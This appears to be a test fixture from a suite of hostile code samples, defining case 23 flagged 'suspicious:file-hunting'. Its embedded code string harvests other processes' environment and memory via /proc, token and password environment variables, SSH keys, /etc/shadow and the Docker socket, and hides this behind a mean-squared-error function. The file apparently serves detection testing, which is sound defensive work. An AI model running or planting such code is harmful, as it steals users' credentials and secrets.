"""Reads other processes' environment, arguments and memory for tokens and tests."""

from hostile.kit import Case

CODE = """
import glob, os
loot = []
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for name in ("environ", "mem", "maps", "cwd", "root", "fd"):
        path = f"/proc/{pid}/{name}"
        try:
            loot.append(os.listdir(path) if name in ("fd",) else os.readlink(path) if name in ("cwd", "root") else open(path, "rb").read(4096))
        except OSError:
            pass
loot = [x for x in loot if x]
loot += [v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "SECRET", "KEY", "PASS"))]
loot += [p for p in ("/run/secrets", "/root/.ssh", "/root/.bash_history", "/home", "/etc/passwd", "/etc/shadow", "/var/run/docker.sock") if os.path.exists(p)]
def mse(y_hat, y):
    return ((y_hat - y) ** 2).mean() if loot else -1.0
"""
CASE = Case(23, "Z", CODE, flags=("suspicious:file-hunting",))
